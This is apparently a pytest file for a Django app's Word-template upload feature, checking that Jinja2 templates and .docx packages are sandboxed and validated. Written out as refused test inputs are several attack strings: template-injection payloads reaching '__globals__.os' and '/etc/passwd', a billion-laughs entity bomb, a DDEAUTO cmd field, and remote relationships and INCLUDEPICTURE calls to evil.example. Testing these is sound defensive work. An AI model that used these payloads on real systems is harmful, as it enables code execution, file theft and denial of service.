"""A branch's own Word templates: tried before they hold, and kept from doing anything but filling in."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from docx import Document
from jinja2 import TemplateSyntaxError, UndefinedError

from activities.archive import places, rendering, word
from activities.archive.template import template
from activities.enums import PaperKind
from activities.models import PaperForm
from activities.services import paper_forms
from branchmgr.errors import RefusedError
from branchmgr.models import User
from tests.factories import records
from tests.factories.records import NOW, Cast

RECORD, ARCHIVE = PaperKind.RECORD, PaperKind.ARCHIVE


@pytest.fixture(autouse=True)
def store_folder(tmp_path: Path, settings: Any) -> Path:
    settings.UPLOADS_ROOT = tmp_path
    return tmp_path


def docx(*paragraphs: str) -> bytes:
    document, stream = Document(), BytesIO()
    for text in paragraphs:
        document.add_paragraph(text)
    document.save(stream)
    return stream.getvalue()


def with_part(data: bytes, part: str, change: Callable[[str], str]) -> bytes:
    """The package with one part changed."""
    stream = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as before, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            text = before.read(name)
            after.writestr(name, change(text.decode()) if name == part else text)
    return stream.getvalue()


def refusal(data: bytes, kind: PaperKind = RECORD) -> str:
    with pytest.raises(RefusedError) as refused:
        word.checked(SimpleUploadedFile("样式.docx", data), kind)
    return str(refused.value)


@pytest.mark.parametrize("kind", PaperKind)
def test_our_own_templates_pass_the_trial_and_are_the_same_each_time(kind: PaperKind) -> None:
    assert template(kind) == template(kind)
    document = Document(BytesIO(word.filled(template(kind), places.sample(kind))))
    assert "第一党小组活动台账" in document.paragraphs[0].text


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (
            "{{ 主题 }}{% if 补录 and not 特色 %}{{ 补录 }}{% endif %}{% for r in 出勤 %}{{ loop.index }}{% endfor %}",
            "fine",
        ),
        ("{{ 主題 }}", "UndefinedError 主題"),
        ("{% for r in 出勤 %}{{ r.姓 }}{% endfor %}", "UndefinedError 姓"),
        ("{{ 主题 ", "TemplateSyntaxError"),
        ("{% if 主题 %}", "TemplateSyntaxError"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "forbidden Call"),
        ("{{ 主题.__class__ }}", "forbidden __class__"),
        ("{{ cycler.__init__.__globals__.os }}", "forbidden __globals__"),
        ("{{ 主题|safe }}", "forbidden Filter"),
        ("{{ 'x' * 1000000000 }}", "forbidden Mul"),
        ("{% set a = 1 %}", "forbidden Assign"),
        ("{% include '/etc/passwd' %}", "forbidden Include"),
        ("{% import 'os' as os %}", "forbidden Import"),
        ("{% macro f() %}{% endmacro %}", "forbidden Macro"),
        ("{% for a in 'xxx' %}{% endfor %}", "forbidden for"),
        ("{% for a in 出勤 recursive %}{% endfor %}", "forbidden for"),
        ("{% for a in 出勤 %}" * 4 + "x" + "{% endfor %}" * 4, "forbidden for"),
    ],
)
def test_language_of_templates_has_places_loops_and_questions_alone(text: str, why: str) -> None:
    assert refused_in_process(docx(text)).startswith(why)


def refused_in_process(data: bytes) -> str:
    """What is said without the process around it."""
    try:
        rendering.filled(data, places.sample(RECORD))
    except rendering.RefusedTemplate as refused:
        return f"{refused.why} {refused.said}"
    except (UndefinedError, TemplateSyntaxError) as error:
        named = re.findall(r"'([^']+)'", error.message or "")
        return " ".join([type(error).__name__, *named[-1:]])
    return "fine"


EXTERNAL = '<Relationship Id="rIdX" Type="http://x/relationships/{}" Target="{}" TargetMode="{}"/>'
RELS = "word/_rels/document.xml.rels"
BODY = "word/document.xml"


def related(kind: str, mode: str = "External") -> bytes:
    target = "http://evil.example/" if mode == "External" else "settings.xml"
    more = EXTERNAL.format(kind, target, mode)
    return with_part(docx("{{ 主题 }}"), RELS, lambda xml: xml.replace("</Relationships>", f"{more}</Relationships>"))


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return with_part(docx("x"), BODY, lambda xml: xml.replace("<w:sectPr", f"<w:p>{runs}</w:p><w:sectPr", 1))


def entities() -> bytes:
    """A small text that a careless reader would unfold to gigabytes."""
    declared = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "x" * 10}">' for n in range(10))

    def change(xml: str) -> str:
        head, _sign, rest = xml.partition("?>")
        return f"{head}?><!DOCTYPE w [{declared}]>" + rest.replace("</w:t>", "&a9;</w:t>", 1)

    return with_part(docx("x"), BODY, change)


def large() -> bytes:
    stream = BytesIO(docx("x"))
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("word/media/large.bin", bytes(word.TEMPLATE_BYTES))
    return stream.getvalue()


BOMB = (
    "{% for a in 全部记录 %}{% for b in 全部记录 %}{% for c in 全部记录 %}" + "{{ a.内容 }}" * 3000 + "{% endfor %}" * 3
)


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (related("attachedTemplate"), "outside attachedTemplate"),
        (related("image"), "outside image"),
        (related("oleObject", "Internal"), "outside oleObject"),
        (related("hyperlink"), "fine"),
        (field("DDEAU", "TO c:\\\\cmd"), "outside DDEAUTO"),
        (field(' INCLUDEPICTURE "http://evil.example/x.png" '), "outside INCLUDEPICTURE"),
        (field(" PAGE "), "fine"),
    ],
    ids=["remote", "picture", "object", "link", "dde", "include", "page"],
)
def test_template_that_would_load_or_run_something_is_refused(data: bytes, why: str) -> None:
    assert refused_in_process(data).startswith(why)


@pytest.mark.parametrize(
    ("data", "kind", "said"),
    [
        (docx("{{ 主題 }}"), RECORD, "a place that does not exist: 主題"),
        (docx("{{ 主题 "), RECORD, "not written as it should be"),
        (docx("{{ 主题.__class__ }}"), RECORD, "not allowed in it: __class__"),
        (related("image"), RECORD, "from outside: image"),
        (entities(), RECORD, "damaged"),
        (docx(BOMB), ARCHIVE, "too long or becomes too large"),
        (large(), RECORD, "larger than 2 MB"),
        (b"%PDF-1.4 %%EOF", RECORD, "not a Word document"),
        (b"MZ", RECORD, "cannot be attached"),
    ],
    ids=["place", "open", "class", "picture", "entities", "bomb", "large", "pdf", "exe"],
)
def test_template_that_cannot_hold_is_refused_in_words(data: bytes, kind: PaperKind, said: str) -> None:
    assert said in refusal(data, kind)


def test_template_is_filled_without_the_secrets_of_the_server(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "x" * 50)
    told = refusal(docx("{{ SECRET_KEY }}"))
    assert "does not exist: SECRET_KEY" in told
    assert "x" * 50 not in told


# On the page


def signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    client.cookies["django_language"] = "en"
    return client


@pytest.fixture
def cast(db: None) -> Cast:
    return records.cast()


def test_branch_sets_its_template_and_takes_it_back(cast: Cast) -> None:
    client, url = signed_in(cast.secretary), reverse("paper_form_list", args=[cast.branch.pk])
    bad = client.post(url, {"kind": RECORD, "template": SimpleUploadedFile("样式.docx", docx("{{ 主題 }}"))})
    assert (bad.status_code, "a place that does not exist: 主題" in bad.content.decode()) == (422, True)
    assert not PaperForm.objects.exists()

    own = SimpleUploadedFile("样式.docx", docx("本支部：{{ 主题 }}", "{{ 内容 }}"))
    assert client.post(url, {"kind": RECORD, "template": own}).status_code == 302
    record = records.submitted(cast.group, by=cast.leader, topic="学习 <b>党章</b>")
    taken = signed_in(cast.leader).post(reverse("record_document", args=[record.pk]))
    assert Document(BytesIO(b"".join(taken))).paragraphs[0].text == "本支部：学习 <b>党章</b>"
    form = PaperForm.objects.get()
    kept = client.get(reverse("paper_form_file", args=[form.pk]))
    assert (kept.status_code, "样式.docx" in client.get(url).content.decode()) == (200, True)

    assert client.post(reverse("paper_form_withdraw", args=[form.pk])).status_code == 302
    assert client.post(reverse("paper_form_withdraw", args=[form.pk])).status_code == 422
    assert paper_forms.template_of(cast.branch, RECORD) == template(RECORD)
    for other in (cast.leader, cast.colleague):
        assert signed_in(other).get(reverse("paper_form_file", args=[form.pk])).status_code == 404


def test_newest_template_holds_and_the_one_before_after_it_is_withdrawn(cast: Cast) -> None:
    first, second = (
        paper_forms.set_paper_form(
            cast.branch, SimpleUploadedFile("样式.docx", docx(text)), kind=ARCHIVE, by=cast.secretary, now=NOW
        )
        for text in ("一 {{ 标题 }}", "二 {{ 标题 }}")
    )
    assert PaperForm.objects.in_force(cast.branch, ARCHIVE).first() == second
    paper_forms.withdraw_paper_form(second, by=cast.secretary, now=NOW)
    assert PaperForm.objects.in_force(cast.branch, ARCHIVE).first() == first
    assert not PaperForm.objects.in_force(cast.branch, RECORD).exists()


def test_ours_is_offered_as_a_start_and_every_place_is_explained(cast: Cast) -> None:
    client = signed_in(cast.secretary)
    ours = client.get(reverse("paper_form_ours", args=[cast.branch.pk, ARCHIVE]))
    text = zipfile.ZipFile(BytesIO(b"".join(ours))).read(BODY).decode()
    assert client.get(reverse("paper_form_ours", args=[cast.branch.pk, "other"])).status_code == 404
    page = client.get(reverse("paper_form_list", args=[cast.branch.pk])).content.decode()
    used = set(re.findall(r"(?:记录|行)\.(\w+)", text))
    assert {name for name in used if name not in page} == set()
